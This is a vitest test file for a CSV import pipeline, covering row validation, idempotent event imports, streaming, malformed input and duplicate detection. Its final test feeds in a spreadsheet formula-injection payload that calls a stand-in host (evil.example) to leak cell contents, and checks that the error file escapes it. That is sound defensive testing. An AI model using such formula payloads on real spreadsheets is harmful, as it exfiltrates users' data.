import { Readable } from "node:stream";
import { describe, expect, it } from "vitest";
import { systemActor } from "@/lib/auth/actor";
import { pool } from "@/lib/db";
import type { ImportConfig } from "@/lib/ingest/csv/import-config";
import { createImportJob, errorFileStream, listRowErrors } from "@/lib/ingest/csv/import-jobs";
import { runImport } from "@/lib/ingest/csv/run-import";

const admin = systemActor("test");
const stream = (text: string | Iterable<string> | AsyncIterable<string>) =>
  Readable.toWeb(Readable.from(typeof text === "string" ? [text] : text)) as ReadableStream<Uint8Array>;
const q = async (sql: string, params: unknown[] = []) => (await pool().query(sql, params)).rows;
const readAll = async (s: ReadableStream<Uint8Array>) => new Response(s).text();

const peopleConfig: ImportConfig = {
  kind: "people",
  fileName: "people.csv",
  delimiter: ",",
  columns: [
    { to: "external_id" },
    { to: "email" },
    { to: "phone" },
    { to: "attribute", name: "ltv", type: "number" },
    { to: "attribute", name: "vip", type: "boolean" },
    { to: "ignore" },
  ],
};

describe("CSV import", () => {
  it("imports valid rows, refuses and reports bad ones, warns about identifiers that will not match", async () => {
    const csv = [
      "id,email,phone,ltv,vip,notes",
      "c1, Ann@Example.com ,(415) 555-0134,120.5,yes,first",
      'c2,bob@example.com,,"1,200",no,"quoted, with comma"',
      "c3,not-an-email,555,10,true,x",
      ",,,5,no,no identifier",
      ",broken@,,1,no,invalid email and no id",
      "c6,carl@example.com,,7,maybe,bad boolean",
      "c7,dee@example.com,+44 7911 123456,3,0",
      'c8,"multi',
      'line",,1,1,"say ""hi"""',
    ].join("\n");
    const job = await createImportJob(admin, peopleConfig);
    const done = await runImport(admin, job.id, stream(csv));
    expect(done.error).toBeNull();
    expect(done).toMatchObject({ status: "succeeded", rowsTotal: 8, rowsImported: 3, rowsFailed: 5, warnings: 2 });

    expect(await q(`SELECT external_id, email, phone, attributes FROM profiles ORDER BY external_id`)).toEqual([
      { external_id: "c1", email: "ann@example.com", phone: "+14155550134", attributes: { ltv: 120.5, vip: true } },
      { external_id: "c3", email: null, phone: null, attributes: { ltv: 10, vip: true } },
      { external_id: "c8", email: null, phone: null, attributes: { ltv: 1, vip: true } },
    ]);
    const file = await readAll(errorFileStream(job.id));
    expect(file.split("\n")[0]).toBe("row,line,column,value,severity,error");
    expect(file).toContain('2,3,ltv,"1,200",error,"""1,200"" is not a number');
    expect(file).toContain('3,4,email,not-an-email,warning,"invalid email (no @); kept as typed, will not match"');
    expect(file).toContain('3,4,phone,555,warning,"invalid phone (too short for US)');
    expect(file).not.toContain("5,6,email");
    expect(file).toContain('4,5,,,error,"no identifier');
    expect(file).toContain("5,6,,,error,no usable identifier: the email is invalid (empty domain)");
    expect(file).toContain("6,7,vip,maybe,error");
    expect(file).toContain("7,8,,,error,row has 5 fields; the header has 6");
  });

  it("imports events idempotently (re-importing the same file stores each event once)", async () => {
    const config: ImportConfig = {
      kind: "events",
      fileName: "events.csv",
      delimiter: ";",
      columns: [{ to: "external_id" }, { to: "event_name" }, { to: "timestamp" }, { to: "property", name: "total", type: "number" }],
    };
    const csv =
      "user;event;at;total\nc1;Order Completed;2026-06-01T10:00:00Z;42.5\nc1;Order Completed;1717236000;10\nc9;Refund;yesterday;1\n";
    for (let i = 0; i < 2; i++) {
      const job = await createImportJob(admin, config);
      expect(await runImport(admin, job.id, stream(csv))).toMatchObject({ status: "succeeded", rowsImported: 2, rowsFailed: 1 });
    }
    const rows = await q(
      `SELECT e.name, e.properties, e.occurred_at FROM events e JOIN profiles p ON p.id = e.profile_id WHERE p.external_id = 'c1' ORDER BY occurred_at`,
    );
    expect(rows).toEqual([
      { name: "Order Completed", properties: { total: 10 }, occurred_at: new Date(1717236000_000) },
      { name: "Order Completed", properties: { total: 42.5 }, occurred_at: new Date("2026-06-01T10:00:00Z") },
    ]);
  });

  it("streams a large file in chunks: it never reads far ahead of what it has written", async () => {
    const rows = 60_000;
    const job = await createImportJob(admin, { ...peopleConfig, fileName: "big.csv" });
    let maxAhead = 0;
    // The file is generated lazily; before each block we check how far the reader is ahead of
    // the rows the importer has already committed. Bounded lag = bounded memory, whatever the size.
    async function* lines() {
      yield "id,email,phone,ltv,vip,notes\n";
      for (let i = 0; i < rows; i += 1000) {
        const [{ rows_total }] = await q(`SELECT rows_total FROM import_jobs WHERE id = $1`, [job.id]);
        maxAhead = Math.max(maxAhead, i - rows_total);
        let block = "";
        for (let j = i; j < i + 1000; j++) block += `big-${j},user${j}@example.com,,${j},no,${"n".repeat(200)}\n`;
        yield block;
      }
    }
    const done = await runImport(admin, job.id, stream(lines()));
    expect(done).toMatchObject({ status: "succeeded", rowsTotal: rows, rowsImported: rows, rowsFailed: 0 });
    expect(done.bytesRead).toBeGreaterThan(14_000_000);
    expect(maxAhead).toBeLessThanOrEqual(20_000); // a few stream buffers and one chunk, not the 60,000-row file
    expect(await q(`SELECT count(*)::int AS n FROM profiles WHERE external_id LIKE 'big-%'`)).toEqual([{ n: rows }]);
  });

  it("fails clearly on a header that does not match the mapping, and refuses a second upload", async () => {
    const mismatch = await createImportJob(admin, { ...peopleConfig, fileName: "other.csv" });
    expect((await runImport(admin, mismatch.id, stream("a,b\n1,2\n"))).error).toContain("header has 2 columns but the mapping has 6");
    await expect(runImport(admin, mismatch.id, stream("a,b\n"))).rejects.toThrow("already been started");
  });

  it("an unclosed quote on line 6 refuses only that row: the rows after it import, and the error file names the line", async () => {
    const config: ImportConfig = {
      kind: "people",
      fileName: "quote.csv",
      delimiter: ",",
      columns: [{ to: "external_id" }, { to: "email" }],
    };
    const csv = [
      "id,email",
      "q1,q1@example.com",
      "q2,q2@example.com",
      "q3,q3@example.com",
      "q4,q4@example.com",
      'q5,"q5@example.com',
      "q6,q6@example.com",
      "q7,q7@example.com",
      "q8,q8@example.com",
    ].join("\n");
    const job = await createImportJob(admin, config);
    const done = await runImport(admin, job.id, stream(csv));
    expect(done).toMatchObject({ status: "succeeded", error: null, rowsTotal: 8, rowsImported: 7, rowsFailed: 1 });
    expect((await q(`SELECT external_id FROM profiles WHERE external_id LIKE 'q%' ORDER BY 1`)).map((r) => r.external_id)).toEqual([
      "q1",
      "q2",
      "q3",
      "q4",
      "q6",
      "q7",
      "q8",
    ]);
    const file = await readAll(errorFileStream(job.id));
    expect(file).toContain("5,6,,,error,this line cannot be read: a quote opened on this line is never closed; the row was skipped");
    expect(await listRowErrors(job.id)).toEqual([
      { row: 5, line: 6, column: null, value: null, severity: "error", message: expect.stringContaining("never closed") },
    ]);
  });

  it("refuses a binary file (or a spreadsheet) up front and imports nothing", async () => {
    const config: ImportConfig = { kind: "people", fileName: "random.bin", delimiter: ",", columns: [{ to: "external_id" }] };
    // Seeded bytes: deterministic "random" data, the kind of file a user picks by mistake.
    let x = 42;
    const bytes = Buffer.from(Array.from({ length: 4096 }, () => ((x = (x * 1103515245 + 12345) % 2 ** 31), x & 0xff)));
    const job = await createImportJob(admin, config);
    const done = await runImport(admin, job.id, Readable.toWeb(Readable.from([bytes])) as ReadableStream<Uint8Array>);
    expect(done).toMatchObject({ status: "failed", rowsTotal: 0, rowsImported: 0 });
    expect(done.error).toMatch(/not text|not UTF-8/);
    const xlsx = await createImportJob(admin, { ...config, fileName: "people.xlsx" });
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from("id\nx\n")]);
    expect((await runImport(admin, xlsx.id, Readable.toWeb(Readable.from([zip])) as ReadableStream<Uint8Array>)).error).toContain(
      "Excel workbook",
    );
  });

  it("reports a person repeated in the same file instead of silently overwriting the earlier row", async () => {
    const config: ImportConfig = {
      kind: "people",
      fileName: "dupes.csv",
      delimiter: ",",
      columns: [{ to: "external_id" }, { to: "email" }, { to: "attribute", name: "plan", type: "text" }],
    };
    const csv =
      "id,email,plan\nd1,d1@example.com,gold\nd2,d2@example.com,silver\nd1,other@example.com,free\n,D2@example.com,x\n,solo@example.com,a\n,Solo@Example.com,b\n";
    const job = await createImportJob(admin, config);
    expect(await runImport(admin, job.id, stream(csv))).toMatchObject({
      status: "succeeded",
      rowsTotal: 6,
      rowsImported: 4,
      rowsFailed: 2,
    });
    expect((await q(`SELECT attributes FROM profiles WHERE external_id = 'd1'`))[0].attributes).toEqual({ plan: "gold" });
    const file = await readAll(errorFileStream(job.id));
    expect(file).toContain("3,4,id,d1,error,duplicate: the same external id is already on line 2; only the first row is imported");
    expect(file).toContain("6,7,email,Solo@Example.com,error,duplicate: the same email is already on line 6");
  });

  it("escapes error-file cells that a spreadsheet would run as a formula", async () => {
    const config: ImportConfig = {
      kind: "people",
      fileName: "formula.csv",
      delimiter: ",",
      columns: [{ to: "external_id" }, { to: "attribute", name: "ltv", type: "number" }],
    };
    const csv = 'id,ltv\nf1,=HYPERLINK("http://evil.example/?"&A1)\nf2,+1+2\nf3,-2+3\nf4,@SUM(A1)\nf5,5\n';
    const job = await createImportJob(admin, config);
    await runImport(admin, job.id, stream(csv));
    const lines = (await readAll(errorFileStream(job.id))).trim().split("\n").slice(1);
    expect(lines.map((l) => l.split(",")[3])).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1)"`, "'+1+2", "'-2+3", "'@SUM(A1)"]);
    for (const l of lines) expect(l).not.toMatch(/,[=+\-@]/);
  });
});
